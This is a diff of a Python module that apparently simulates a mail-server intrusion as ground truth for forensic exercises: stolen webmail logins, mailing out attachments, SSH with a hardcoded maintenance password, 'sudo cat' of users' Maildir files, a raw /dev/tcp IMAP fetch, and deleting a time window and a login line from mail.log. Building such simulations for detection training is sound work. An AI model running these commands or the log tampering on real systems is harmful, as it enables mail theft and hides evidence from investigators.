@@ -11,11 +11,11 @@ from collections import namedtuple
 from tower import audit, clients, letters
 from tower.clock import utc
 from tower.people import ADMIN, OFFICE, PARTNERS
-from tower.truth import STORE
+from tower.truth import STORE, folders_of
 from tower.world import PHONE
 
 DAY = "2026-03-17"
-CURL = "curl/7.88.1"
+STRANGE = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
 FREE = "boite-libre.example"
 
 
@@ -77,8 +77,7 @@ def stolen_password_webmail(world):
     target = f"copie.martin@{FREE}"
 
     def visit():
-        mail = clients.Webmail(source, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
-                               world.clock.skip)
+        mail = world.browser(victim, source, STRANGE)
         world.truth.act(source)
         mail.sign_in(victim.address, victim.password)
         world.truth.inside(victim.address, source)
@@ -144,17 +143,16 @@ def script_attack(world):
         lure.append(letter["Message-ID"])
 
     def session():
-        mail = clients.Webmail(victim.office, victim.browser, world.clock.skip)
+        mail = world.browser(victim, victim.home)
         mail.sign_in(victim.address, victim.password)
         uids = mail.folder("INBOX")
         world.clock.skip(14)
         mail.preview(uids[1])
         world.clock.skip(33)
-        bait_uid = next(uid for uid in uids if "colis" in mail.preview(uid)) if not lure else uids[0]
-        mail.show(bait_uid)
+        mail.show(uids[0])
         time.sleep(1.2)
-        world.truth.inside(victim.address, victim.office)
-        world.truth.head["trigger"] = {"account": victim.address, "folder": "INBOX", "uid": bait_uid,
+        world.truth.inside(victim.address, victim.home)
+        world.truth.head["trigger"] = {"account": victim.address, "folder": "INBOX", "uid": uids[0],
                                        "message_id": lure[0]}
         run_script(world, mail, victim)
         world.clock.skip(47)
@@ -220,8 +218,7 @@ def send_exfil(world):
             message = letters.letter(world.rng, world.clock.now(), victim.address, victim.name, [target],
                                      subject="docs", attach=[])
             for raw in loot[start:start + 3]:
-                parts = clients.documents(raw)
-                for name, kind, data in parts:
+                for name, kind, data in clients.documents(raw):
                     message.add_attachment(data, *kind.split("/"), filename=name)
             clients.submit(source, victim.address, victim.password, message, [target], "[10.8.0.6]")
             world.truth.note("sent", account=victim.address, to=[target], message_id=message["Message-ID"],
@@ -235,7 +232,9 @@ def send_exfil(world):
 def server_shell(world):
     source, tarred, catted, guest = "203.0.113.233", ["a.roux", "l.lefevre"], "k.haddad", world.people["m.girard"]
     store = world.host.path(STORE)
-    ssh = lambda command: world.ssh(source, "operateur", "Maintenance!2024", command)
+
+    def ssh(command):
+        return world.ssh(source, "operateur", "Maintenance!2024", command)
 
     def visit():
         world.truth.act(source)
@@ -251,19 +250,17 @@ def server_shell(world):
                 for folder, uid in messages_of(store / name):
                     world.truth.opened(f"{name}@interieur.example", folder, uid, "file-read", kind="file")
                 time.sleep(0.8)
-            inbox = messages_of(store / catted)
-            chosen = [item for item in inbox if item[0] == "INBOX"][:3]
-            for folder, uid in chosen:
+            for uid in inbox_of(store / catted)[:3]:
                 file = message_file(store / catted, uid)
-                ssh(f"sudo cat {STORE}/{catted}/Maildir/{file}")
-                world.truth.opened(f"{catted}@interieur.example", folder, uid, "file-read", kind="file")
+                ssh(f"sudo cat '{STORE}/{catted}/Maildir/{file}'")
+                world.truth.opened(f"{catted}@interieur.example", "INBOX", uid, "file-read", kind="file")
             for name in [*tarred, catted]:
                 world.truth.accounts.append(f"{name}@interieur.example")
 
     def inner_session():
         """A password found in that mail, used on the host itself."""
         world.truth.act(source)
-        uids = [uid for folder, uid in messages_of(store / guest.login) if folder == "INBOX"][-3:]
+        uids = inbox_of(store / guest.login)[-3:]
         script = (f"exec 3<>/dev/tcp/127.0.0.1/143; "
                   f"printf 'a login {guest.address} {guest.password}\\r\\nb examine INBOX\\r\\n"
                   f"c uid fetch {clients.spread(uids)} (BODY.PEEK[])\\r\\nd logout\\r\\n' >&3; cat <&3")
@@ -279,16 +276,21 @@ def server_shell(world):
 
 
 def messages_of(home):
-    from tower.truth import folders_of
+    """(folder, UID) of each message, from Dovecot's own lists."""
     for folder, path in folders_of(home / "Maildir"):
         for line in (path / "dovecot-uidlist").read_text().splitlines()[1:]:
             yield folder, int(line.split()[0])
 
 
+def inbox_of(home):
+    return [uid for folder, uid in messages_of(home) if folder == "INBOX"]
+
+
 def message_file(home, uid):
+    """Where a message of the INBOX lies, below its Maildir."""
     maildir = home / "Maildir"
-    line = next(l for l in (maildir / "dovecot-uidlist").read_text().splitlines()[1:] if int(l.split()[0]) == uid)
-    base = line.split(":", 1)[1].split(":")[0]
+    lines = (maildir / "dovecot-uidlist").read_text().splitlines()[1:]
+    base = next(line for line in lines if int(line.split()[0]) == uid).split(":")[1]
     return next(f"{sub}/{file.name}" for sub in ("cur", "new") for file in (maildir / sub).iterdir()
                 if file.name.split(":")[0] == base)
 
@@ -298,7 +300,7 @@ def cut_logs(recording, truth):
     first, last = "2026-03-17T12:30:00", "2026-03-17T12:56:00"
     lines = recording["mail.log"].splitlines(keepends=True)
     kept = [line for line in lines if not first <= line[:19] < last]
-    hidden = next(line for line in kept if "imap-login: Login:" in line and "m.girard" in line and "rip=127.0.0.1" in line)
+    hidden = next(line for line in kept if line.startswith("2026-03-17T13:11") and "imap-login: Login:" in line)
     kept.remove(hidden)
     recording["mail.log"] = "".join(kept)
     truth.note("tampered", file="mail.log", **{"from": first + "+01:00", "to": last + "+01:00"},
